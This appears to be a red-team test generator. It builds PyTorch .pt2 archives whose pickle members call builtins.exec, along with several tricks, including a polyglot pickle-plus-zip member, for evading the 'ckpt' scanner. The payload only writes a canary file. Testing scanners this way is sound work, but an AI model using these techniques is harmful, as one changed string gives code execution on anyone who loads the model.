"""torch.export .pt2 archives whose pickled members are protocol-0 pickles (no PROTO header).
torch.export.load unpickles
  - data/constants/opaque_obj_N with pickle.loads, and
  - use_pickle weights/constants with torch.load(BytesIO, weights_only=False), which unpickles a
    non-zip buffer from byte 0;
ckpt only opens archive members named *.pkl or starting with a PROTO opcode / zip signature, so
these members are never scanned. Payload: writes a canary file (via builtins.exec)."""
import json
import subprocess
import sys
import zipfile

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/pt2"
subprocess.run([sys.executable, str(__import__("pathlib").Path(__file__).with_name("pt2_base.py"))], check=True, capture_output=True)  # base.pt2

def proto0(tag: str) -> bytes:
    return b"cbuiltins\nexec\n(V" + f"open({canary + tag!r},'w').write('ran')".encode() + b"\ntR."

src = zipfile.ZipFile("base.pt2")

def rebuild(out, replace, extra):
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = replace.get(info.filename, src.read(info.filename))
            z.writestr(info.filename, data)
        for name, data in extra.items():
            z.writestr(name, data)

# 1. an opaque object constant, unpickled with pickle.loads
constants = {"config": {"c0": {"path_name": "opaque_obj_0", "is_param": False,
                               "use_pickle": True, "tensor_meta": None}}}
rebuild("opaque.pt2",
        {"base/data/constants/model_constants_config.json": json.dumps(constants).encode()},
        {"base/data/constants/opaque_obj_0": proto0("_opaque")})

# 2. a weight saved "with pickle": torch.load(BytesIO(member), weights_only=False)
weights = json.loads(src.read("base/data/weights/model_weights_config.json"))
weights["config"]["lin.bias"]["use_pickle"] = True
rebuild("use_pickle.pt2",
        {"base/data/weights/model_weights_config.json": json.dumps(weights).encode(),
         "base/data/weights/weight_1": proto0("_weight")}, {})
print("wrote opaque.pt2 use_pickle.pt2")

# 3. the same use_pickle weight, but the member is a protocol-0 pickle followed by a harmless
#    torch.save zip whose directory counts the prefix: ckpt's .pt2 reader reads the zip (found
#    from the end), torch.load(BytesIO) sees no "PK" at byte 0 and unpickles from byte 0.
import io

import torch

inner = io.BytesIO()
torch.save(torch.zeros(2), inner)
inner_zip = zipfile.ZipFile(io.BytesIO(inner.getvalue()))
poly = io.BytesIO()
poly.write(proto0("_poly"))
with zipfile.ZipFile(poly, "a", zipfile.ZIP_STORED) as z:
    for info in inner_zip.infolist():
        z.writestr(info.filename, inner_zip.read(info.filename))
rebuild("use_pickle_poly.pt2",
        {"base/data/weights/model_weights_config.json": json.dumps(weights).encode(),
         "base/data/weights/weight_1": poly.getvalue()}, {})
print("wrote use_pickle_poly.pt2")

# 4. opaque.pt2 with a harmless data.pkl added beside its folders: ckpt took the archive for a
#    torch.save file, whose data/ records are raw tensor bytes, and skipped every member under
#    data/ (the .pt2's weights and constants); torch.export.load reads the .pt2 as before.
src = zipfile.ZipFile("opaque.pt2")
folder = src.namelist()[0].split("/")[0]
with zipfile.ZipFile("opaque_data_pkl.pt2", "w", zipfile.ZIP_STORED) as z:
    for name in src.namelist():
        z.writestr(name, src.read(name))
    z.writestr(f"{folder}/data.pkl", b"\x80\x02}q\x00.")
print("wrote opaque_data_pkl.pt2")
